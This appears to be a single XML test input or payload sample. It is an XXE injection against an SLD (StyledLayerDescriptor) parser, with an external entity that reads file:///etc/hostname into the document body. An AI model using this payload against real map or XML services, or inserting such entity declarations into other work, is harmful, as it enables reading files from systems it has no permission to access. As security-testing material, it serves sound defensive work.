<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><StyledLayerDescriptor>&x;</StyledLayerDescriptor>
